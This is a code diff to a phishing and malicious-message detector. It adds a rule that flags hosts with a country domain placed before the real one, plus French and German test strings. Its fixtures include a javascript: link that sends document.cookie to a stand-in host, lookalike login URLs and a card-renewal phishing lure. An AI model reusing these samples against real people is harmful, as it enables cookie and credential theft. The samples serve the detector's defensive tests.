@@ -718,13 +718,19 @@ function badLinks(ctx: MessageContext): Finding | undefined {
   URL_RE.lastIndex = 0;
   let m: RegExpExecArray | null;
   const scan = ctx.norm.length > 262144 ? ctx.norm.slice(0, 262144) : ctx.norm;
+  let lure: boolean | undefined;
   for (let n = 0; n < 40 && (m = URL_RE.exec(scan)) !== null; n++) {
-    const f = linkFinding(hostOf(m[0]).toLowerCase());
+    const host = hostOf(m[0]).toLowerCase();
+    const f = linkFinding(host);
     if (f !== undefined) best = better(best, f);
+    // a country domain worn in front of the real one ("canalplus-paiement.fr.renouvellement.cc") under an account lure
+    else if (CC_EMBED.test(host) && (lure ??= mentions('message', ctx, 'lure'))) best = better(best, { detail: `host ${host} wears a country domain in front of its real one`, score: 6 });
   }
   URL_RE.lastIndex = 0;
   return best;
 }
+/** ".fr." or ".de." inside a host, after a label of its own: a country domain followed by more labels. */
+const CC_EMBED = /[a-z0-9]\.(?:fr|de|es|it|nl|pt|br|jp|ru|pl|ch|be|at|se|uk|ca|au|mx|ar)\.[a-z0-9]/;
 
 const EXEC_EXT = /\.(?:exe|scr|pif|msi|msp|lnk|hta|iso|img|vhdx?|cpl|jar|apk|xll|one|chm|dll|com|bat|cmd|vbs|vbe|js|jse|wsf|wsh|ps1|psm1|reg|sh|appx|msix|application|gadget|url|scf|iqy|slk)\b/;
 const DOUBLE_EXT = /\.(?:pdf|docx?|xlsx?|pptx?|jpe?g|png|gif|txt|rtf|csv|zip|mp4|mp3)[ _]{0,40}\.(?:exe|scr|pif|com|bat|cmd|vbs|js|jse|hta|lnk|ps1|msi|jar|wsf)\b/;
@@ -1324,12 +1330,15 @@ const messageAnalyzer: Analyzer<MessageContext> = {
           '<a href="javascript:fetch(\'//x.io/\'+document.cookie)">Open</a>',
           'Invoice portal: https://login.microsoft.com.secure-auth.ru/owa',
           'Benefits enrolment: https://hr.contoso.com.benefits-check.info/enrol',
+          "Bonjour, votre abonnement n'a pas pu être renouvelé. Mettez à jour votre carte ici : http://canalplus-paiement.fr.renouvellement.cc",
         ],
         pass: [
           'The design doc is at https://docs.google.com/document/d/abc123/edit',
           'Dashboard: http://10.0.4.12:3000/grafana (VPN required)',
           'Email jane@paypal-partners.com or see docs.acme.io for details.',
           'Our shop is at https://www.acme.com.au/shop and the docs at https://docs.acme.co.uk',
+          "Votre abonnement n'a pas pu être renouvelé. Mettez à jour votre carte dans votre espace client : https://www.canalplus.com/mon-compte",
+          'Die Doku liegt unter https://docs.de.acme-cloud.com/handbuch (Region Frankfurt).',
         ],
       },
     },
@@ -1419,7 +1428,7 @@ const messageAnalyzer: Analyzer<MessageContext> = {
       },
     },
   ],
-  auxPatterns: [...DELIVERY_PATTERNS, INTO_SHELL, TRADING_RULE, AGENT_SENDER, ID_ASK, VIA_FORM, LINKED_EXEC_PATH, RUN_ASK, /[?#]/, OWN_DATA, ATTACHMENT_NAME_SEPARATORS, 
+  auxPatterns: [...DELIVERY_PATTERNS, INTO_SHELL, TRADING_RULE, CC_EMBED, AGENT_SENDER, ID_ASK, VIA_FORM, LINKED_EXEC_PATH, RUN_ASK, /[?#]/, OWN_DATA, ATTACHMENT_NAME_SEPARATORS, 
     ...SECRET_PATTERNS, ...MESSAGE_TEXT_PATTERNS, PERSONAL_WORDING, URGENCY, SECRECY, AUTHORITY, GIFT_NOUN, GIFT_VERB, GIFT_CODES, NUMWORD,
     BANK_OBJ, CHANGE_VERB, CHANGED_AFTER, LURE_STATE, LURE_NOUN, LURE_DIRECT, DISCLAIMER_ANCHOR, DISCLAIMER_WORD, SENSITIVE_WEAK_NOCONF,
     EXTORT_IF, SEXTORT, EXEC_FAVOUR, SELF_EXEC, PAY_VERB, LEAK_VERB, EXTORT_HAVE, MATERIAL, RANSOM_WORD, WALLET, DEADLINE, PAY_DEADLINE, TEXT_EXEC, ATTACH_WORD, /[\w-]/, IMPERSONATE,
